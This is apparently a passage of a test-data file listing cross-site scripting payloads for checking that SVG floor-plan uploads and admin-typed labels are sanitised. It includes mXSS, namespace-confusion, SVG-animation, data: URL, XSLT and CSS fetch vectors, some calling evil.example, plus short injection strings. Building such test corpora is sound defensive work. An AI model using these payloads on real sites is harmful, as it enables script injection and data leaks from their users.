  ),
  c(
    'mXSS: a template in a title',
    '<title><template><style>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</style></template></title>',
  ),
  c(
    'mXSS: a comment in a style in a title',
    '<title><style>&lt;!--&lt;/style&gt;&lt;img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"&gt;</style></title>',
  ),
  c(
    'namespace confusion: noscript in desc',
    '<desc><noscript>&lt;/noscript&gt;&lt;/desc&gt;&lt;s&gt;&lt;/s&gt;&lt;style&gt;&lt;a title="&lt;/style&gt;&lt;img src onerror=alert(1)&gt;"&gt;</noscript></desc>',
  ),
  c(
    'namespace confusion: mglyph in MathML',
    '<math><mtext><table><mglyph><style>&lt;img src=x onerror=alert(1)&gt;</style></mglyph></table></mtext></math>',
  ),
  c(
    'mXSS: foreignObject, p and style',
    `<foreignObject><p xmlns="${XHTML}"><style><p title="&lt;/style&gt;&lt;iframe onload=alert(1)&lt;!--"/></style></p></foreignObject>`,
  ),
  c(
    'CDATA hiding an image tag',
    '<text><![CDATA[><image xlink:href="]]>&lt;img src=x onerror=alert(2)//"&gt;</text>',
  ),
  c('style text holding an image tag', '<style>&lt;img/src=x onerror=alert(1)// &lt;/b&gt;</style>'),
  c(
    'filter of an SVG data: document in a style attribute',
    '<image style="filter:url(&quot;data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22&gt;&lt;script&gt;parent.alert(1)&lt;/script&gt;&lt;/svg&gt;&quot;)" width="9" height="9"/>',
  ),
  c(
    'clip-path, fill, filter, marker, mask and stroke from another file',
    '<a id="x"><rect fill="white" width="1000" height="1000"/></a><rect fill="white" width="99" height="99" style="clip-path:url(https://evil.example/test3.svg#a);fill:url(#b);filter:url(#c);marker:url(#d);mask:url(#e);stroke:url(#f)"/>',
  ),
  c(
    'marker-start from another file',
    '<path d="M0,0L9 9" style="marker-start:url(https://evil.example/test4.svg#a)"/>',
  ),
  c(
    'feImage set to an SVG data: document',
    '<filter id="f"><feImage><set attributeName="xlink:href" to="data:image/svg+xml;charset=utf-8;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4="/></feImage></filter>',
  ),
  c(
    'link animated from javascript:',
    '<a xlink:href="?"><circle r="400"/><animate attributeName="xlink:href" begin="0" from="javascript:alert(1)" to="&amp;"/></a>',
  ),
  c(
    'image animated to a leaking URL on a key press',
    '<image><set attributeName="xlink:href" begin="accessKey(a)" to="//evil.example/?a"/></image>',
  ),
  c(
    'XML Events observer with a data: handler',
    '<x xmlns="http://www.w3.org/2001/xml-events" event="load" observer="root" handler="data:image/svg+xml,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E%3C%2Fsvg%3E#x"/>',
    ' id="root"',
  ),
  doc(
    'xml-stylesheet of an XSLT inside the file',
    `<?xml version="1.0"?><?xml-stylesheet type="text/xml" href="#stylesheet"?>${wrap('<xsl:stylesheet id="stylesheet" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></xsl:template></xsl:stylesheet>')}`,
  ),
  c(
    'DOM clobbering by name',
    '<image name="body"/><image name="activeElement"/><image name="adoptNode"/><svg onload="alert(1)"/>',
  ),
  c(
    'SVG data: image with an onload inside',
    '<image width="50" height="50" xlink:href="data:image/svg+xml;utf8,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%20onload%3D%22alert(1)%22%2F%3E"/>',
  ),
  c(
    'HTML style under a prefix, then an XLink',
    `<g xmlns:html="${XHTML}"><html:style/><g xlink:href="javascript:alert(1)" xlink:type="simple">XXX</g></g>`,
  ),
  c(
    'unknown element with xlink:actuate',
    '<x xlink:actuate="onLoad" xlink:href="javascript:alert(1)" xlink:type="simple"/>',
  ),
  c(
    'set and animate on handler attributes',
    '<set attributeName="onmouseover" to="alert(1)"/><animate attributeName="onunload" to="alert(1)"/>',
  ),
];

/** Every payload; see the groups above. */
export const XSS_CORPUS: readonly XssCase[] = [
  ...SCRIPT,
  ...HANDLERS,
  ...LINKS,
  ...RESOURCES,
  ...FOREIGN,
  ...ANIMATION,
  ...XML,
  ...CSS_FETCH,
  ...CSS_SCOPE,
  ...BOX,
  ...PAGE,
  ...DOMPURIFY,
];

/**
 * Text an admin types that the apps write on or beside a plan (ADR 025): building labels ("Hus
 * {label}", drawn into the plan by the widget's server, the widget and the editor), apartment
 * numbers (bostad, drawn on zones with `show_zone_numbers`) and plans' names (buttons, the phone's
 * chooser, the editor's pickers; also set by renaming, not only by an upload's `<title>`). Each
 * is at most 50 characters, the building label's limit.
 */
export const TEXT_PAYLOADS: readonly string[] = [
  '</text></svg><img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "'><iframe src=javascript:alert(1)>",
  '</title><style>*{display:none}</style>',
  ']]><script>alert(1)</script><![CDATA[',
  '&lt;img src=x onerror=alert(1)&gt;&#x3c;b&#x3e;',
  '<!--</text>--><a href=javascript:alert(1)>x</a>',
  "{{constructor.constructor('alert(1)')()}}",
  '\u202e\u2066</option></select><b>x</b>',
];
